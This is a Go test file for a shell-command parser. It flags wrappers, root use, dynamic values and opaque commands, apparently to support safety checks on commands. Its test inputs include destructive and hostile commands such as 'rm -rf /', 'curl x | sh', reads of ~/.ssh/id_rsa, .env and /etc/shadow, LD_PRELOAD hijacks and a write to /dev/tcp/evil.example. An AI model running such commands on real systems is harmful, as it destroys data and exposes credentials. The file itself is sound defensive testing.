package facts

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// line prints a Shell for a table: commands between " ; ", each as its wrappers,
// its path and its quoted arguments, a pipe's reader behind "|", then flags;
// a trailing "!" is opaque.
func line(s Shell) string {
	var parts []string
	for _, c := range s.Commands {
		p := ""
		if c.Piped {
			p = "|"
		}
		for _, v := range c.Via {
			p += v + ">"
		}
		for _, e := range c.Env {
			p += e + "="
		}
		if c.Path == "" {
			p += "?"
		}
		p += c.Path
		for _, a := range c.Args {
			if a == "" || strings.ContainsAny(a, " ;|<>\n") {
				a = fmt.Sprintf("%q", a)
			}
			p += " " + a
		}
		for _, f := range c.Reads {
			p += " <" + f
		}
		for _, f := range c.Writes {
			p += " >" + f
		}
		if c.Pattern {
			p += " #pattern"
		}
		if c.Dynamic {
			p += " #dynamic"
		}
		if c.Privileged {
			p += " #root"
		}
		parts = append(parts, p)
	}
	out := strings.Join(parts, " ; ")
	if s.Opaque {
		out += "!"
	}
	return out
}

func TestParseShell(t *testing.T) {
	for _, test := range []struct{ command, want string }{
		// The examples of spec/facts.md.
		{`echo "rm -rf /"`, `echo "rm -rf /"`},
		{`sudo env A=1 sh -c 'r\m -rf "/x"'`, "sudo>env>sh>A=rm -rf /x #root"},
		{"ls | xargs rm", `ls ; xargs>rm "" #dynamic`},
		{"curl x | sh", "curl x ; |sh!"},
		{"$(echo rm) x", "echo rm ; ? x #dynamic!"},
		// Words.
		{"", ""},
		{"# only a comment", ""},
		{"ls", "ls"},
		{"ls -l /tmp\n", "ls -l /tmp"},
		{"/bin/rm -rf /", "/bin/rm -rf /"},
		{`r\m -r"f" '/'`, "rm -rf /"},
		{`"rm" -rf ""/`, "rm -rf /"},
		{"r''m -rf /", "rm -rf /"},
		{"rm \\\n-rf /", "rm -rf /"},
		{`echo 'a;b' "c|d"`, `echo "a;b" "c|d"`},
		{`echo "a\$b\"c\\d\e"`, `echo a$b"c\d\e`},
		{`echo ''`, `echo ""`},
		{"echo a#b # c", "echo a#b"},
		{"ls *.go", "ls *.go #pattern"},
		{`ls "*.go" \*`, "ls *.go *"},
		{"ls a?b [ab]", "ls a?b [ab] #pattern"},
		{"cat ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa #pattern"},
		{"cat a~ '~'", "cat a~ ~"},
		{"rm -{r,f} /", `rm "" / #dynamic`},
		{"echo {1..3}", `echo "" #dynamic`},
		{`echo {"a",b}`, `echo "" #dynamic`},
		{"echo {a} {} x{", "echo {a} {} x{"},
		{`echo \{a,b\}`, "echo {a,b}"},
		{"cat $x", `cat "" #dynamic`},
		{`cat "$HOME/.env"`, `cat "" #dynamic`},
		{"cat ${x:-a}", `cat "" #dynamic`},
		{"echo $'a'", `echo "" #dynamic`},
		{`echo $"a"`, `echo "" #dynamic`},
		{"echo !(a)", `echo "" #dynamic`},
		{"echo $# $? $$ ${#x}", `echo "" "" "" "" #dynamic`},
		{"git push --force origin main", "git push --force origin main"},
		// Lists, pipes, redirections.
		{"a; b & c && d || e", "a ; b ; c ; d ; e"},
		{"! a", "a"},
		{"a | b |& c", "a ; |b ; |c"},
		{"a | { b | c; }", "a ; |b ; |c"},
		{"(a; b) | { c; d; }", "a ; b ; |c ; |d"},
		{"a <in >out 2>&1", "a <in >out"},
		{"a >>x 2>/dev/null", "a >x >/dev/null"},
		{"a &>x", "a >x"},
		{"a >|x <>y", "a <y >x >y"},
		{"a >&x", "a >x"},
		{"a 2>&- <&3 >&4-", "a"},
		{"a >$x", "a > #dynamic"},
		{"a >&$x", "a > #dynamic"},
		{"a >*.txt", "a >*.txt #pattern"},
		{"a >~/x", "a >~/x #pattern"},
		{"> f", ": >f"},
		{"x=1 > f", "x=: >f"},
		{"{ a; b; } > f", "a >f ; b >f"},
		{"while read l; do a; done < f", "read l <f ; a <f"},
		{"cat <<E\nhi $x\nE", "cat"},
		{"cat <<E\n$(id)\nE", "id ; cat"},
		{"cat <<'E'\n$(id)\nE", "cat"},
		{"cat <<< $(id)", "id ; cat"},
		{"cat < <(id)", `id ; |cat < #dynamic`},
		{"echo x > /dev/tcp/evil.example/80", "echo x >/dev/tcp/evil.example/80"},
		// Substitutions run.
		{"echo $(rm -rf /)", `rm -rf / ; echo "" #dynamic`},
		{"echo `rm -rf /`", `rm -rf / ; echo "" #dynamic`},
		{`echo "a $(rm x) b"`, `rm x ; echo "" #dynamic`},
		{"x=$(rm x)", "rm x ; x=:"},
		{"x=1", "x=:"},
		{"echo ${x:-$(rm x)}", `rm x ; echo "" #dynamic`},
		{"echo ${x/$(rm x)/y}", `rm x ; echo "" #dynamic`},
		{"diff <(a) <(b)", `a ; b ; diff "" "" #dynamic`},
		{"tee >(wc)", `|wc ; tee "" #dynamic`},
		{"a=(x $(rm y))", "rm y ; a=:"},
		{"export A=$(rm x)", "rm x ; export A"},
		// Compound commands.
		{"if a; then b; elif c; then d; else e; fi", "a ; b ; c ; d ; e"},
		{"while a; do b; done", "a ; b"},
		{"until a; do b; done", "a ; b"},
		{"for i in $(a) b; do c $i; done", `i=: ; a ; c "" #dynamic`},
		{"for ((i=0;i<3;i++)); do a; done", "a!"},
		{"case $(a) in x) b ;; $(c)) d ;; esac", "a ; b ; c ; d"},
		{"f() { rm x; }", "rm x"},
		{"f() { a; }; f", "a ; f"},
		{"function f { a; }", "a"},
		{"time a", "time>a"},
		{"coproc a", "a!"},
		{"a 10>f", "a >f!"},
		{"a {x}>f", "a >f!"},
		{"[[ -f a ]] && b", "b"},
		{"[[ -f $(a) ]]", "a"},
		{"[ -f a ] && b", "[ -f a ] ; b"},
		{"select x in a b; do c; done", "x=: ; c"},
		// Wrappers.
		{"sudo rm x", "sudo>rm x #root"},
		{"sudo -u root -E -n rm x", "sudo>rm x #root"},
		{"sudo -uroot rm x", "sudo>rm x #root"},
		{"sudo --user=root -- rm x", "sudo>rm x #root"},
		{"sudo --user root rm x", "sudo>rm x #root"},
		{"sudo A=1 rm x", "sudo>A=rm x #root"},
		{"sudo -l", "sudo -l #root"},
		{"sudo -z rm x", "sudo -z rm x #root!"},
		{"sudo -i", "sudo -i #root!"},
		{"sudo -s rm x", "sudo -s rm x #root!"},
		{"sudo $x rm", `sudo "" rm #dynamic #root!`},
		{"doas -u root rm x", "doas>rm x #root"},
		{"su -c 'rm x' root", "su -c \"rm x\" root ; su>rm x #root"},
		{"su - root", "su - root!"},
		{"su", "su!"},
		{"env", "env"},
		{"env A=1 B=2 rm x", "env>A=B=rm x"},
		{"env -i -u X rm x", "env>rm x"},
		{"env - rm x", "env>rm x"},
		{"env --unset=X rm x", "env>rm x"},
		{"env -S 'rm x'", `env -S "rm x"!`},
		{"env -C /etc cat shadow", "env -C /etc cat shadow!"},
		{"env A=$x rm", `env "" rm #dynamic!`},
		{"A=1 rm x", "A=rm x"},
		{"nohup rm x &", "nohup>rm x"},
		{"timeout 5 rm x", "timeout>rm x"},
		{"timeout -k 1 -s KILL 5s rm x", "timeout>rm x"},
		{"timeout --signal=KILL 5 rm x", "timeout>rm x"},
		{"timeout --frobnicate 5 rm x", "timeout --frobnicate 5 rm x!"},
		{"timeout $n rm x", `timeout "" rm x #dynamic!`},
		{"nice -n 5 rm x", "nice>rm x"},
		{"nice -5 rm x", "nice>rm x"},
		{"command rm x", "command>rm x"},
		{"command -v rm", "command -v rm"},
		{"builtin cd /", "builtin>cd /"},
		{"exec rm x", "exec>rm x"},
		{"exec -a ls rm x", "exec>rm x"},
		{"exec >f", "exec >f"},
		{"/usr/bin/time -f x rm y", "/usr/bin/time -f x rm y ; time>rm y"},
		{"./timeout 5 ls", "./timeout 5 ls ; timeout>ls"},
		{"sudo /tmp/env ls", "sudo>/tmp/env ls #root ; sudo>env>ls #root"},
		{"/bin/sh -c 'rm x'", `/bin/sh -c "rm x" ; sh>rm x`},
		{"\\time -f x -ao f ls", "time>ls >f"},
		{"command time --output=f --append ls", "command>time>ls >f"},
		{"command time --output f ls", "command>time>ls >f"},
		{"xargs -a .env echo", `xargs>echo "" <.env #dynamic`},
		{"xargs --arg-file=.env -I{} echo {}", `xargs>echo "" <.env #dynamic`},
		{"stdbuf -oL rm x", "stdbuf>rm x"},
		{"setsid rm x", "setsid>rm x"},
		{"busybox rm x", "busybox>rm x"},
		{"busybox sh -c 'rm x'", "busybox>sh>rm x"},
		{"sudo env nohup nice timeout 1 rm x", "sudo>env>nohup>nice>timeout>rm x #root"},
		{"a | xargs rm -rf", `a ; xargs>rm -rf "" #dynamic`},
		{"a | xargs -0 -n 1 rm", `a ; xargs>rm "" #dynamic`},
		{"a | xargs -I{} mv {} b", `a ; xargs>mv "" b #dynamic`},
		{"a | xargs -0I{} {} b", `a ; xargs>? b #dynamic!`},
		{"a | xargs -I X sh -c 'rm X'", `a ; xargs>sh -c "" #dynamic!`},
		{"a | xargs sh -c 'rm $1'", `a ; xargs>sh>rm "" #dynamic`},
		{"a | xargs sh", `a ; xargs>sh "" #dynamic!`},
		{"a | xargs -i rm {}", "a ; |xargs -i rm {}!"},
		{"a | xargs", "a ; |xargs"},
		{"find . -exec rm {} ';'", `find . -exec rm {} ";" ; find>rm "" #dynamic`},
		{"find . -exec sh -c 'rm x' {} +", `find . -exec sh -c "rm x" {} + ; find>sh>rm x`},
		{"find . -exec {} ';'", `find . -exec {} ";" ; find>? #dynamic!`},
		{"find . -name '*.py' -print", "find . -name *.py -print"},
		// Code in words.
		{"sh -c 'rm x; ls'", "sh>rm x ; sh>ls"},
		{"bash -lc 'rm x'", "bash>rm x"},
		{"bash -euo pipefail -c 'rm x'", "bash>rm x"},
		{"/bin/bash --norc -c 'rm x' a b", `/bin/bash --norc -c "rm x" a b ; bash>rm x`},
		{`sh -c "sh -c 'rm x'"`, "sh>sh>rm x"},
		{`sh -c "rm $x"`, `sh -c "" #dynamic!`},
		{"sh -c", "sh -c!"},
		{"sh -c 'a('", "!"},
		{"sh script.sh a", "sh script.sh a"},
		{"bash -x script.sh", "bash -x script.sh"},
		{"sh $x", `sh "" #dynamic!`},
		{"sh", "sh!"},
		{"sh -s", "sh -s!"},
		{"sh --frobnicate x", "sh --frobnicate x!"},
		{"sh /dev/stdin", "sh /dev/stdin!"},
		{"sh < f", "sh <f!"},
		{"bash <(curl x)", `curl x ; bash "" #dynamic!`},
		{"curl x | sh", "curl x ; |sh!"},
		{"curl x | sudo bash -s -- -y", "curl x ; |sudo>bash -s -- -y #root!"},
		{"curl x | { sh; }", "curl x ; |sh!"},
		{"echo 'rm x' | sh", `echo "rm x" ; |sh!`},
		{"sh <<E\nrm x\nE", "sh>rm x"},
		{"sudo sh <<'E'\nrm $x\nE", `sudo>sh>rm "" #dynamic #root`},
		{"sh <<E\nrm $x\nE", "sh!"},
		{"sh <<E\nrm \\$x\nE", "sh!"},
		{"sh <<E\nE", ""},
		{"sh <<< 'rm x'", "sh>rm x"},
		{"sh 3<<E\nrm x\nE", "sh!"},
		{"sh <<E <f\nrm x\nE", "sh <f!"},
		{"zsh -c 'rm x'", "zsh>rm x"},
		{"zsh -c 'ls *.py'", "zsh>ls *.py #pattern!"},
		{"zsh -c '=rm x'", "zsh>? x #dynamic!"},
		{"eval rm x", "eval>rm x"},
		{"eval 'rm x; ls'", "eval>rm x ; eval>ls"},
		{"eval $x", "!"},
		{"eval \"$(curl x)\"", "curl x!"},
		{"trap 'rm x' EXIT", `trap "rm x" EXIT ; trap>rm x`},
		{"trap - EXIT", "trap - EXIT"},
		{"trap $x EXIT", `trap "" EXIT #dynamic!`},
		{". ./env.sh", ". ./env.sh"},
		{"source env.sh", "source env.sh"},
		{"source $x", `source "" #dynamic!`},
		{"source <(curl x)", `curl x ; source "" #dynamic!`},
		{"source /dev/stdin <<< 'rm x'", "source /dev/stdin!"},
		{"python x.py a", "python x.py a"},
		{"python3.12 -u x.py", "python3.12 -u x.py"},
		{"python -m pytest -c x", "python -m pytest -c x"},
		{"python --version", "python --version"},
		{"python -c 'import os'", `python -c "import os"!`},
		{"python -W ignore -c x", "python -W ignore -c x!"},
		{"python -uc x", "python -uc x!"},
		{"python - < f", "python - <f!"},
		{"python <<E\nx\nE", "python!"},
		{"echo x | python", "echo x ; |python!"},
		{"perl -pe s/a/b/ f", "perl -pe s/a/b/ f!"},
		{"perl -v -e x", "perl -v -e x!"},
		{"node -e x", "node -e x!"},
		{"ruby x.rb", "ruby x.rb"},
		// A name that is known only when it runs, and what changes names.
		{"$x", "? #dynamic!"},
		{`"$x" -rf /`, `? -rf / #dynamic!`},
		{"$(echo rm) -rf /", `echo rm ; ? -rf / #dynamic!`},
		{"~/bin/x", "? #pattern!"},
		{"./*.sh", "? #pattern!"},
		{"{rm,-rf,/}", "? #dynamic!"},
		{"'' a", "? a!"},
		{"PATH=. ls", "PATH=ls!"},
		{"?=[x ls", "?=ls!"},
		{"}a=[x", "}a=:!"},
		{"export PATH=.:$PATH; ls", "export PATH ; ls!"},
		{"export $x", `export "" #dynamic!`},
		{"LD_PRELOAD=./x.so ls", "LD_PRELOAD=ls!"},
		{"env BASH_ENV=x bash f", "env>BASH_ENV=bash f!"},
		{"read -r x; export -p; declare -x A", "read -r x ; export -p ; declare -x A"},
		{"read PATH", "read PATH!"},
		{"for PATH in a; do ls; done", "PATH=: ; ls!"},
		{": ${PATH:=x}", `PATH=: ; : "" #dynamic!`},
		{"printf -v PATH x", "printf -v PATH x ; =:!"},
		{"printf -vx y; ls", "printf -vx y ; =: ; ls"},
		{"CDPATH=/; cd etc", "CDPATH=: ; cd etc!"},
		{"printf '%s[0]\n' x", `printf "%s[0]\n" x`},
		{"declare -n a=b", "declare -n a!"},
		{"unset 'a[$(rm x)]'", `unset "a[$(rm x)]"!`},
		{"alias ls=rm", "alias ls=rm!"},
		{"hash -p /tmp/x ls", "hash -p /tmp/x ls!"},
		{"parallel rm ::: x", "parallel rm ::: x!"},
		{"chroot / rm x", "chroot / rm x!"},
		{"/lib64/ld-linux-x86-64.so.2 /bin/rm x", "/lib64/ld-linux-x86-64.so.2 /bin/rm x!"},
		// What evaluates a variable.
		{"echo $((1+2))", `echo "" #dynamic`},
		{"echo $((x+1))", `echo "" #dynamic!`},
		{"((x++))", "!"},
		{"let x=1", "!"},
		{"echo ${!x}", `echo "" #dynamic!`},
		{"echo ${x@P}", `echo "" #dynamic!`},
		{"echo ${x[$y]}", `echo "" #dynamic!`},
		{"echo ${x[@]} ${x[0]}", `echo "" "" #dynamic`},
		{"echo ${x:1:2}", `echo "" #dynamic`},
		{"[[ $x -eq 1 ]]", "!"},
		{"[[ a < b ]]", "!"},
		{"[[ a || rm ]]", "!"},
		{"test -v 'a[$(rm x)]'", `test -v "a[$(rm x)]"!`},
		{"echo `echo \\`rm x\\``", `rm x ; echo "" #dynamic ; echo "" #dynamic!`},
		// No shell; what stands before the fault counts.
		{"rm -rf /\n(", "rm -rf /!"},
		{"edit 1:1\nx = f(a)\nend_of_edit", "edit 1:1!"},
		{"echo 'a", "!"},
		{"a )", "!"},
		{"if a; then", "!"},
		{"cat <<E\nx", "!"},
		{"a\x00b", "!"},
		{"ls\r\nrm x", "!"},
		{"ls \x1b[2J", "!"},
		{"ls \xff", "!"},
	} {
		s := parse(test.command)
		if got := line(s); got != test.want || s.Opaque != (s.Why != "") {
			t.Errorf("%q\n got %s\nwant %s\n why %s", test.command, got, test.want, s.Why)
		}
	}
}

// An Opaque that a bug of the parser raised would be a lie about the input, so
// the tests read without the recover of ParseShell.
func parse(command string) Shell {
	s := Shell{}
	(&walker{shell: &s}).code(command, scope{})
	return s
}

func TestShellPipes(t *testing.T) {
	for command, want := range map[string][][]int{
		"a":                      nil,
		"a | b":                  {{0, 1}},
		"a; b | c | d && e |& f": {{1, 2, 3}, {4, 5}},
		"a | { b; c | d; }":      {{2, 3}, {0, 1, 2, 3}},
		"a $(b | c)":             {{0, 1}},
		"sh -c 'a | b' | c":      {{0, 1}, {0, 1, 2}},
		"x=1 | y=2":              {{0, 1}},
	} {
		if got := parse(command).Pipes; !reflect.DeepEqual(got, want) {
			t.Errorf("%q: pipes %v, want %v", command, got, want)
		}
	}
}

func TestShellName(t *testing.T) {
	for command, want := range map[string]string{"rm": "rm", "/bin/rm": "rm", "./x/rm": "rm", "$x": "", "/": "/"} {
		if got := parse(command).Commands[0].Name; got != want {
			t.Errorf("%q has the name %q, want %q", command, got, want)
		}
	}
}

// Every bound makes opaque, and what is under it is not.
func TestShellBounds(t *testing.T) {
	nest := func(n int) string { return strings.Repeat("( ", n) + "a" + strings.Repeat(" )", n) }
	for _, test := range []struct {
		name, command string
		opaque        bool
	}{
		{"bytes", "a " + strings.Repeat("x", MaxShellBytes-2), false},
		{"one byte more", "a " + strings.Repeat("x", MaxShellBytes-1), true},
		{"brackets", "echo '" + strings.Repeat("(", MaxShellOpenings) + "'", false},
		{"one bracket more", "echo '" + strings.Repeat("[", MaxShellOpenings+1) + "'", true},
		{"commands", strings.Repeat("a\n", MaxShellCommands), false},
		{"one command more", strings.Repeat("a\n", MaxShellCommands+1), true},
		{"words", "a" + strings.Repeat(" x", MaxShellWords-1), false},
		{"one word more", "a" + strings.Repeat(" x", MaxShellWords), true},
		{"words in redirections", strings.Repeat("a >x\n", 100) + strings.Repeat("a <x x x x x x x\n", 100), false},
		{"depth", nest(MaxShellDepth - 1), false},
		{"one level more", nest(MaxShellDepth), true},
		{"subshells", strings.Repeat("(", 30_000), true},
		{"ifs", strings.Repeat("if ", 20_000), true},
		{"substitutions", strings.Repeat("$(", 1_000) + strings.Repeat(")", 1_000), true},
		{"times", strings.Repeat("time ", 10_000) + "a", true},
		{"tests", "[[ " + strings.Repeat("! ", 20_000) + "a ]]", false},
		{"elifs", "if a; then b; " + strings.Repeat("elif a; then b; ", 100) + "fi", false},
		{"a long chain", strings.Repeat("a&&", 10_000) + "a", true},
		{"a long pipe", strings.Repeat("a|", 10_000) + "a", true},
		{"indexes", strings.Repeat("a[", 1_000) + strings.Repeat("]", 1_000) + "=1", true},
		{"here-strings, each read once and not twice", strings.Repeat("sh <<< $(", 40) + "a" + strings.Repeat(")", 40), true},
		{"wrappers", strings.Repeat("nice ", MaxShellDepth) + "a", false},
		{"one wrapper more", strings.Repeat("nice ", MaxShellDepth+1) + "a", true},
		{"redirections", strings.Repeat(">f ", 20_000), true},
		{"variables", strings.Repeat("A=1 ", 16_000) + "a", true},
		{"finds", strings.Repeat("find . -exec ", 5_000) + "a", true},
		{"xargs, which each add a word", strings.Repeat("xargs ", 9_000) + "a", true},
		{"evals", strings.Repeat("eval ", 10) + "a", false},
		{"too many evals", strings.Repeat("eval ", 40) + "a", true},
	} {
		s := parse(test.command)
		if s.Opaque != test.opaque {
			t.Errorf("%s: opaque is %v: %s", test.name, s.Opaque, s.Why)
		}
		checkBounds(t, s)
	}
}

func checkBounds(t *testing.T, s Shell) {
	t.Helper()
	words := len(s.Commands)
	for _, c := range s.Commands {
		words += len(c.Args) + len(c.Reads) + len(c.Writes)
	}
	if len(s.Commands) > MaxShellCommands || words > MaxShellWords {
		t.Errorf("%d commands, %d words", len(s.Commands), words)
	}
}

func FuzzShell(f *testing.F) {
	for _, s := range []string{
		"sudo -u root env A=1 timeout -k 1 5 rm -rf \"$x\" *.go",
		"a | xargs -0I{} sh -c 'rm {}' <<< x",
		"sh <<'E'\nrm $x\nE",
		"for i in $(a) {b,c}; do [[ $i -eq 1 ]] && f() { eval x; }; done > f 2>&1",
		"case x in (a|b) echo `a \\`b\\``;; esac; x=(1 [2]=3); ((x+1)); let y=1",
		"export A=${b:-$(c)} && trap 'rm x' EXIT; find . -exec rm {} \\;",
		"zsh -c 'ls =rm *(e:x:)'; coproc a; time -p b; select x in y; do z; done",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		s := parse(command)
		if !reflect.DeepEqual(s, parse(command)) {
			t.Fatal("two readings differ")
		}
		if s.Opaque != (s.Why != "") {
			t.Fatalf("opaque is %v because of %q", s.Opaque, s.Why)
		}
		checkBounds(t, s)
		for i, c := range s.Commands {
			if c.Literal == (c.Dynamic || c.Pattern) || c.Name == "" && !s.Opaque {
				t.Fatalf("command %d: %+v", i, c)
			}
			if c.Literal {
				for _, r := range append(c.Reads, c.Writes...) {
					if strings.ContainsAny(r, "\x00\r") {
						t.Fatalf("command %d has the file %q", i, r)
					}
				}
			}
		}
		for _, p := range s.Pipes {
			for _, i := range p {
				if i < 0 || i >= len(s.Commands) {
					t.Fatalf("pipe %v of %d commands", p, len(s.Commands))
				}
			}
		}
		// Whatever is put around a command that is whole, the command stays in sight.
		if whole := parse(command + "\nrm -rf /\n"); !whole.Opaque && strings.TrimSpace(command) != "" {
			last := whole.Commands[len(whole.Commands)-1]
			if last.Name != "rm" && !strings.Contains(command, "<<") && !strings.Contains(command, "{") && !strings.HasSuffix(command, "\\") {
				t.Fatalf("rm is out of sight: %+v", whole)
			}
		}
	})
}

func BenchmarkParseShell(b *testing.B) {
	for _, command := range []string{"ls -la src", "sudo -u app env A=1 git push --force origin main", "cd src && grep -rn 'func main' --include='*.go' . | head -20 > /tmp/out 2>&1"} {
		b.Run(strings.Fields(command)[0], func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ParseShell(command)
			}
		})
	}
}

func BenchmarkParseURL(b *testing.B) {
	for b.Loop() {
		ParseURL("https://api.github.com:443/repos/a/b?c=d")
	}
}

func BenchmarkParsePath(b *testing.B) {
	for b.Loop() {
		ParsePath("../src/main.go", "/srv/app/cmd")
	}
}
